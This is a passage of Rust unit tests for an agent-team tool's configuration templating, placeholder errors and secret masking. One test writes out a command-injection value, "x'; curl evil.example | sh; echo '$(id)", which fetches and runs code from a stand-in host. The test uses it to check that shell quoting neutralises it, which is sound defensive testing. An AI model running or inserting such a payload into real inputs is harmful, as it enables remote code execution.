        let mut cfg = parse(TEAM);
        apply_variables_on(&mut cfg, &BTreeMap::new(), "2030-01-02").unwrap();
        assert_eq!(
            team_goal(&cfg).unwrap().unwrap(),
            "Ship login by 2030-01-02"
        );
        let role = cfg.role("builder").unwrap().clone();
        let ws = cfg.workspace.clone();
        assert_eq!(
            fill_prompt(&cfg, &role, "b1", &ws),
            format!(
                "You are b1, a builder of team web.\nDeploy to staging from {}; write \
                 {{{{literal}}}} and ${{{{ matrix.os }}}}.",
                ws.display()
            )
        );
        let t = &cfg.tasks[0];
        assert_eq!(
            fill_task_text(&cfg, "title", &t.title).unwrap(),
            "Deploy login"
        );
        assert_eq!(
            fill_task_text(&cfg, "run", t.run.as_deref().unwrap()).unwrap(),
            "echo staging > out.txt"
        );
        assert_eq!(fill_goal(&cfg, "{{team}}-{{env}}").unwrap(), "web-staging");
        // The stored configuration keeps the templates and the values.
        assert_eq!(cfg.tasks[0].title, "Deploy {{feature}}");
        assert_eq!(cfg.variables["date"], "2030-01-02");
    }

    #[test]
    fn a_value_filled_into_a_run_command_stays_one_word_of_text() {
        let mut cfg = parse(TEAM);
        // A webhook's variable: an issue title anyone can write.
        let hostile = "x'; curl evil.example | sh; echo '$(id)";
        apply_variables_on(&mut cfg, &vars(&[("env", hostile)]), "d").unwrap();
        let run = fill_task_text(&cfg, "run", "echo {{env}} > out.txt").unwrap();
        assert_eq!(
            run,
            format!("echo {} > out.txt", agent_team_perms::shell::quote(hostile))
        );
        // The shell reads it back as the one word it was.
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(run.replace("> out.txt", ""))
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), format!("{hostile}\n"));
        // Other fields are text already: the value goes in as it is.
        assert_eq!(
            fill_task_text(&cfg, "description", "to {{env}}").unwrap(),
            format!("to {hostile}")
        );
    }

    #[test]
    fn var_overrides_the_team_file_and_keys_are_checked() {
        let mut cfg = parse(TEAM);
        apply_variables_on(&mut cfg, &vars(&[("env", "prod")]), "d").unwrap();
        assert_eq!(
            fill_goal(&cfg, "{{env}}/{{feature}}").unwrap(),
            "prod/login"
        );
        for bad in ["1x", "a-b", "", "agent", "role", "AGENT_TEAM_SOCKET"] {
            let mut cfg = parse(TEAM);
            let e = apply_variables_on(&mut cfg, &vars(&[(bad, "v")]), "d").unwrap_err();
            assert!(e.to_string().starts_with(&format!("--var {bad}: ")), "{e}");
        }
        assert_eq!(
            parse_assignment("k_1=a=b").unwrap(),
            ("k_1".into(), "a=b".into())
        );
        assert!(parse_assignment("novalue").is_err());
        assert!(parse_assignment("9=x").is_err());
        let e = parse_team_file(
            Path::new("/w/team.toml"),
            "name = \"web\"\n[variables]\nok = \"1\"\n\"bad-key\" = \"2\"\n",
        )
        .unwrap_err();
        assert_eq!(e.line, Some(4), "{e}");
        assert!(
            e.to_string()
                .contains("variables.bad-key: invalid variable name"),
            "{e}"
        );
    }

    #[test]
    fn an_unknown_placeholder_names_file_line_and_field() {
        // Line 11 of the file is the prompt's second line.
        let text = TEAM.replace("Deploy to {{env}}", "Deploy to {{foo}}");
        let mut cfg = parse(&text);
        let e = apply_variables_on(&mut cfg, &BTreeMap::new(), "d").unwrap_err();
        assert_eq!(
            e.to_string(),
            "/w/team.toml:11: roles.builder.system_prompt: unknown variable {{foo}} (known: \
             date, team, workspace, agent, role, env, feature; write {{{{ for a literal {{)"
        );
        // A task's run command, on its own line.
        let text = TEAM.replace("echo {{env}}", "echo {{ nope }}");
        let e = apply_variables_on(&mut parse(&text), &BTreeMap::new(), "d").unwrap_err();
        assert!(
            e.to_string().starts_with(
                "/w/team.toml:21: tasks.deploy.run: unknown variable {{nope}} (known: date, \
                 team, workspace, env, feature;"
            ),
            "{e}"
        );
        // `--var` supplies what the file lacks.
        let mut cfg = parse(&text);
        apply_variables_on(&mut cfg, &vars(&[("nope", "x")]), "d").unwrap();
        // A goal from the command line has no file.
        let e = fill_goal(&cfg, "do {{what}}").unwrap_err();
        assert!(
            e.to_string().starts_with("goal: unknown variable {{what}}"),
            "{e}"
        );
        // {{agent}} is per agent: not in a task.
        let text = TEAM.replace("Deploy {{feature}}", "Deploy as {{agent}}");
        let e = apply_variables_on(&mut parse(&text), &BTreeMap::new(), "d").unwrap_err();
        assert!(
            e.to_string().starts_with(
                "/w/team.toml:19: tasks.deploy.title: {{agent}} is known only in system prompts"
            ),
            "{e}"
        );
    }

    #[test]
    fn a_role_file_prompt_is_located_in_its_own_file() {
        let dir = tempfile::tempdir().unwrap();
        let agents = dir.path().join(".agent-team/agents");
        std::fs::create_dir_all(&agents).unwrap();
        std::fs::write(
            agents.join("rev.md"),
            "---\nname: rev\ndescription: reviews\n---\n\nYou review.\nAsk {{whom}}.\n",
        )
        .unwrap();
        let file = dir.path().join("agent-team.toml");
        std::fs::write(&file, "name = \"t\"\n").unwrap();
        let mut cfg = crate::load(&file).unwrap();
        let e = apply_variables_on(&mut cfg, &BTreeMap::new(), "d").unwrap_err();
        assert_eq!(
            e.file,
            std::fs::canonicalize(&agents).unwrap().join("rev.md")
        );
        assert_eq!(e.line, Some(7), "{e}");
        assert_eq!(e.field.as_deref(), Some("roles.rev.system_prompt"));
    }

    #[test]
    fn templates_escapes_and_non_placeholders() {
        let cfg = {
            let mut c = parse("name = \"t\"\n[variables]\nx = \"X\"\n");
            apply_variables_on(&mut c, &BTreeMap::new(), "d").unwrap();
            c
        };
        let f = |t: &str| fill_task_text(&cfg, "title", t);
        assert_eq!(f("{{x}}{{ x }}{{\tx\t}}").unwrap(), "XXX");
        assert_eq!(f("{{{{x}}").unwrap(), "{{x}}");
        assert_eq!(f("{{{x}}}").unwrap(), "{X}");
        assert_eq!(
            f("${{ a.b }} {{}} {{ 1 }} {{x").unwrap(),
            "${{ a.b }} {{}} {{ 1 }} {{x"
        );
        assert_eq!(f("é{{x}}ü").unwrap(), "éXü");
        assert!(
            f("{{y}}")
                .unwrap_err()
                .starts_with("title: unknown variable {{y}}")
        );
        assert_eq!(
            placeholders("a {{x}} b {{ y }}"),
            vec![("x".to_string(), 2), ("y".to_string(), 10)]
        );
    }

    #[test]
    fn secrets_reach_no_text_and_no_stored_configuration() {
        let text = "name = \"t\"\n[secrets]\nTOKEN = { env = \"MY_TOKEN\" }\n[[tasks]]\ntitle = \"t\"\nrun = \"curl -H $TOKEN x\"\n";
        let mut cfg = parse(text);
        let env = |k: &str| (k == "MY_TOKEN").then(|| "s3cr3t-from-env".to_string());
        let secrets = resolve_secrets(&mut cfg, &vars(&[("API", "s3cr3t-given")]), env).unwrap();
        apply_variables_on(&mut cfg, &BTreeMap::new(), "d").unwrap();
        assert_eq!(
            secrets.iter().collect::<Vec<_>>(),
            vec![("API", "s3cr3t-given"), ("TOKEN", "s3cr3t-from-env")]
        );
        let stored = serde_json::to_string(&cfg).unwrap();
        assert!(!stored.contains("s3cr3t"), "{stored}");
        assert!(stored.contains("MY_TOKEN"), "the source is kept: {stored}");
        assert!(!format!("{secrets:?} {cfg:?}").contains("s3cr3t"));
        // The file text carries them; masking hides them in command output.
        let back = Secrets::from_file_text(&secrets.to_file_text()).unwrap();
        assert_eq!(back, secrets);
        assert_eq!(
            secrets.mask("got s3cr3t-given and s3cr3t-from-env"),
            "got [secret API] and [secret TOKEN]"
        );
        // A placeholder naming a secret is refused everywhere.
        let e = fill_goal(&cfg, "use {{TOKEN}}").unwrap_err();
        assert!(e.to_string().contains("{{TOKEN}} names a secret"), "{e}");
        assert!(fill_task_text(&cfg, "run", "echo {{API}}").is_err());
        let with_prompt = text.replace(
            "[secrets]",
            "[roles.worker]\nsystem_prompt = \"key {{TOKEN}}\"\n[secrets]",
        );
        let mut c = parse(&with_prompt);
        resolve_secrets(&mut c, &BTreeMap::new(), env).unwrap();
        let e = apply_variables_on(&mut c, &BTreeMap::new(), "d").unwrap_err();
        assert!(
            e.to_string().starts_with(
                "/w/team.toml:3: roles.worker.system_prompt: {{TOKEN}} names a secret"
            ),
            "{e}"
        );
        // A missing environment variable is named; a `--secret` of an earlier start is not kept.
        let mut c = parse(text);
        let e = resolve_secrets(&mut c, &BTreeMap::new(), |_| None).unwrap_err();
        assert_eq!(
            e.to_string(),
            "/w/team.toml:3: secrets.TOKEN: the environment variable MY_TOKEN is not set \
             (export it before starting the team)"
        );
        let mut again: TeamConfig = serde_json::from_str(&stored).unwrap();
        let s = resolve_secrets(&mut again, &BTreeMap::new(), env).unwrap();
        assert_eq!(s.keys().collect::<Vec<_>>(), vec!["TOKEN"]);
        assert!(!again.secrets.contains_key("API"));
        // A name both a variable and a secret is refused.
        let mut c = parse(text);
        resolve_secrets(&mut c, &BTreeMap::new(), env).unwrap();
        assert!(apply_variables_on(&mut c, &vars(&[("TOKEN", "x")]), "d").is_err());
    }

    /// NexAU's example: `ContextValue(template={"date": "2026-03-04", "username": "alice"})`
    /// (`--var date=… --var username=…`) was refused as "a built-in variable"; a caller's
    /// `date`, `team` and `workspace` win over the built-ins now.
    #[test]
    fn a_callers_date_team_and_workspace_win_over_the_built_ins() {
        let mut cfg = parse(TEAM);
        let extra = vars(&[("date", "2026-03-04"), ("username", "alice")]);
        apply_variables_on(&mut cfg, &extra, "2030-01-02").unwrap();
        assert_eq!(
            team_goal(&cfg).unwrap().unwrap(),
            "Ship login by 2026-03-04"
        );
        assert_eq!(
            fill_goal(&cfg, "{{username}} on {{date}}").unwrap(),
            "alice on 2026-03-04"
        );
        // The next start without it: today's date again, also over the stored one.
        apply_variables_on(&mut cfg, &BTreeMap::new(), "2030-01-03").unwrap();
        assert_eq!(fill_goal(&cfg, "{{date}}").unwrap(), "2030-01-03");
        // `team` and `workspace` too, also in a system prompt; `agent` and `role` never.
        let mut cfg = parse(TEAM);
        let extra = vars(&[("team", "Web Team"), ("workspace", "/tmp/project")]);
        apply_variables_on(&mut cfg, &extra, "d").unwrap();
        let role = cfg.role("builder").unwrap().clone();
        let prompt = fill_prompt(&cfg, &role, "b1", Path::new("/elsewhere"));
        assert!(
            prompt.starts_with(
                "You are b1, a builder of team Web Team.\nDeploy to staging from /tmp/project;"
            ),
            "{prompt}"
        );
        for per_agent in ["agent", "role"] {
            let e =
                apply_variables_on(&mut parse(TEAM), &vars(&[(per_agent, "x")]), "d").unwrap_err();
            assert!(e.to_string().contains("filled for each agent"), "{e}");
        }
        assert_eq!(
            parse_var_assignment("date=2026-03-04").unwrap(),
            ("date".into(), "2026-03-04".into())
        );
        assert!(parse_var_assignment("agent=x").is_err());
        // A secret (and the team file's [variables]) still cannot take a built-in's name.
        assert!(parse_assignment("date=x").is_err());
        let e = parse_team_file(
            Path::new("/w/team.toml"),
            "name = \"web\"\n[variables]\ndate = \"2026-03-04\"\n",
        )
        .unwrap_err();
        assert!(
            e.to_string()
                .contains("`--var date=VALUE` sets it for one start"),
            "{e}"
        );
    }

    /// NexAU's `sandbox_env` (`--env`, a request's `env`) is environment, not a secret: its
    /// values reach the commands as they are and are never masked (they were shown as
    /// `[secret WORKSPACE]`).
    #[test]
    fn plain_environment_reaches_commands_unmasked_and_is_no_secret() {
        let mut cfg = parse("name = \"t\"\n");
        let given = vars(&[
            ("env:WORKSPACE", "/tmp/project"),
            ("api_key", "sk-0123456789"),
        ]);
        let s = resolve_secrets(&mut cfg, &given, |_| None).unwrap();
        assert_eq!(
            s.iter().collect::<Vec<_>>(),
            vec![("WORKSPACE", "/tmp/project"), ("api_key", "sk-0123456789")]
        );
        assert_eq!(
            s.mask("ws=/tmp/project key=sk-0123456789"),
            "ws=/tmp/project key=[secret api_key]"
        );
        assert_eq!(s.longest(), "sk-0123456789".len());
        assert!(!cfg.secrets.contains_key("WORKSPACE"), "not a secret");
        assert!(cfg.secrets.contains_key("api_key"));
        assert_eq!(format!("{s:?}"), r#"{"WORKSPACE", "api_key"}"#);
        // The file carries both; a file of secrets alone (as written before) still reads.
        let back = Secrets::from_file_text(&s.to_file_text()).unwrap();
        assert_eq!(back, s);
        assert_eq!(back.env()["WORKSPACE"], "/tmp/project");
        let old = Secrets::from_file_text(r#"{"K":"v4lue","env":"x"}"#).unwrap();
        assert_eq!(old.mask("v4lue"), "[secret K]");
        assert!(old.env().is_empty());
        // Only environment: the file is still written (not empty), nothing is masked.
        let only = resolve_secrets(
            &mut parse("name = \"t\"\n"),
            &vars(&[("env:A", "abcdef")]),
            |_| None,
        )
        .unwrap();
        assert!(!only.is_empty());
        assert_eq!(only.mask("abcdef"), "abcdef");
        // A bad name is refused, named as --env.
        let e = resolve_secrets(
            &mut parse("name = \"t\"\n"),
            &vars(&[("env:1x", "v")]),
            |_| None,
        )
        .unwrap_err();
        assert!(e.to_string().starts_with("--env 1x: "), "{e}");
    }

    #[test]
    fn dates_are_civil() {
        assert_eq!(civil_date(0), "1970-01-01");
        assert_eq!(civil_date(19_782), "2024-02-29");
        assert_eq!(civil_date(-1), "1969-12-31");
        let today = local_date();
        assert_eq!(today.len(), 10, "{today}");
    }

    #[test]
    fn a_secret_split_over_line_breaks_is_masked_whole() {
        let s = Secrets::from_map([("K".to_string(), "0123456789abcdefgh".to_string())].into());
        assert_eq!(s.mask("a 012345678\n9abcdefgh b"), "a [secret K]\n b");
        assert_eq!(s.mask("0123\r\n4567\r\n89abcdefgh"), "[secret K]\r\n\r\n");
        assert_eq!(s.mask("x0123456789abcdefghx"), "x[secret K]x");
        assert!(matches!(s.mask("nothing\nhere"), Cow::Borrowed(_)));
        // A value that is also its placeholder's text does not loop.
        let odd = Secrets::from_map([("K".to_string(), "secret".to_string())].into());
        assert_eq!(odd.mask("secret se\ncret"), "[secret K] [secret K]\n");
        // A stream hands a line on once no value can run on from it.
        let mut m = LineMasker::new(&s);
        assert!(m.push("one 0123456".into()).is_empty());
        assert_eq!(
            m.push("789abcdefgh two, long enough".into()),
            ["one [secret K]"]
        );
        assert_eq!(m.finish(), [" two, long enough"]);
        // Cut lines: masked before the cut, a value's start at the cut dropped.
        let (cut, was) = s.mask_and_cut(
            &format!("{}0123456789abcdefgh{}", "x".repeat(8), "y".repeat(40)),
            10,
        );
        assert!(was && cut.starts_with("xxxxxxxx[secret K]"), "{cut}");
        let (cut, _) = s.mask_and_cut(&format!("{}0123456789a", "x".repeat(12)), 10);
        assert_eq!(cut, "x".repeat(12));
    }

    /// lauren-ai's quick start writes `{worker_descriptions}`, `{task}`, `{prior_outputs}`:
    /// filled as lauren fills them; other single-brace text and `{{…}}` as before.
    #[test]
    fn a_lauren_coordinator_prompt_with_single_braces_is_filled() {
        let mut cfg = parse("name = \"q\"\n");
        cfg.coordinator_prompt =
            "Workers: {worker_descriptions}\nTask: {task}\nPrior: {prior_outputs}\n\
             Reply with ROUTE: <name> or DONE: <answer> {not_ours} {{task}} {task}}"
                .into();
        check_all(&cfg).unwrap();
        let filled = fill_coordinator_prompt(&cfg, "w1: writes", "the goal", "none yet");
        assert_eq!(
            filled,
            "Workers: w1: writes\nTask: the goal\nPrior: none yet\n\
             Reply with ROUTE: <name> or DONE: <answer> {not_ours} the goal {task}}"
        );
        // An unknown double-brace name is still an error.
        cfg.coordinator_prompt = "{task} {{nope}}".into();
        assert!(check_all(&cfg).is_err());
    }
}
